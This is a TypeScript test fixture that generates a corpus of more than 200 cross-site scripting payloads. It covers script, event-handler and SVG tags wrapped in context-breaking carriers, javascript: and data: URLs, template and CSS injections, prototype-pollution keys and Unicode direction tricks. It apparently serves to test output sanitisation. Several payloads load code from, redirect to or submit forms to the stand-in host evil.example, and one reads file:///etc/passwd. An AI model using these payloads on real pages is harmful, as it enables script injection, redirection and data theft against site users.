/**
 * Texts that run, load or lead somewhere when a page takes them for more than text. Each calls
 * `window.__ran(n)`, asks `evil.example` for something, or would turn the page over. Made from parts, so
 * that every way in meets every carrier.
 */
const RUN = 'window.__ran?.(1)';
const HOST = 'https://evil.example';

const tags = [
  `<script>${RUN}</script>`,
  `<script src=${HOST}/a.js></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=${HOST}/a.png>`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<link rel=stylesheet href=${HOST}/a.css>`,
  `<meta http-equiv=refresh content="0;url=${HOST}">`,
  `<base href=${HOST}/>`,
  `<form action=${HOST}><input type=submit autofocus onfocus="${RUN}"></form>`,
  `<details open ontoggle="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}">`,
  `<body onload="${RUN}">`,
  `<marquee onstart="${RUN}">`,
  `<a href="javascript:${RUN}">press</a>`,
  `<style>@import '${HOST}/a.css';</style>`,
  `<style>*{background:url(${HOST}/a.png)}</style>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<x contenteditable onblur="${RUN}" tabindex=1 autofocus>`,
];

/** Ways out of where a text stands. */
const carriers: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `"'>${payload}`,
  (payload) => `</textarea></title></script></style>${payload}`,
  (payload) => `--><![CDATA[${payload}]]>`,
  (payload) => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (payload) => payload.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
];

const urls = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  ` javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg onload="${RUN}"/>`,
  `vbscript:${RUN}`,
  `blob:${HOST}/1`,
  `//evil.example/a`,
  `${HOST}/#/records`,
  'file:///etc/passwd',
];

const templates = [
  `\${${RUN}}`,
  `{{${RUN}}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `$t(app:name) {{name}} $t(errors:internal.title)`,
  `[[${RUN}]]`,
  `{{{title}}}`,
  `__proto__`,
  `constructor.prototype`,
];

const styles = [
  `x:expression(${RUN})`,
  `url(${HOST}/a.png)`,
  `}*{display:none!important}`,
  `@import "${HOST}/a.css";`,
  `;background:url(javascript:${RUN})`,
  `--paper: red; } :root { --ink: transparent`,
];

const turned = [
  '\u202Egnp.exe\u202C',
  '\u2066\u2067\u2068isolates\u2069',
  '\u200Fright\u200Eleft',
  '\u061Carabic',
  '\u202B\u202A\u202D'.repeat(20),
  'a\u0300'.repeat(200),
  '\uFEFFbom\u200Bzero\u00ADwidth',
  '\uD800lone',
  'x'.repeat(3000),
  '\u0000nul\u0007bell\u001B[31m',
];

/** At least 200, each another one. */
export const scriptPayloads: readonly string[] = [
  ...tags.flatMap((tag) => carriers.map((carry) => carry(tag))),
  ...urls,
  ...templates,
  ...styles,
  ...turned,
];
